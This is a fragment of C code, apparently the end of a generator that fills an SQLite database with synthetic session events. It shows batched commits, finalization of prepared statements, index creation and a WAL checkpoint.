		at += step > 1 ? step : 1;
		if (below(3) == 0)
			web_session(&c, at, sess++);
		else
			session(&c, at, sess++);
		if (sess % 200000 == 0) {
			exec(c.db, "COMMIT");
			exec(c.db, "BEGIN");
		}
	}
	exec(c.db, "COMMIT");
	sqlite3_stmt *all[] = {c.ev, c.sess, c.smp, c.src, c.box, c.cnc};
	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++)
		sqlite3_finalize(all[i]);
	for (int i = 0; i < nidx; i++) {
		exec(c.db, indexes[i]);
		free(indexes[i]);
	}
	exec(c.db, "PRAGMA wal_checkpoint(TRUNCATE);");
	sqlite3_close(c.db);
	fprintf(stderr, "gen: %llu events\n", (unsigned long long)c.nev);
	return 0;
}
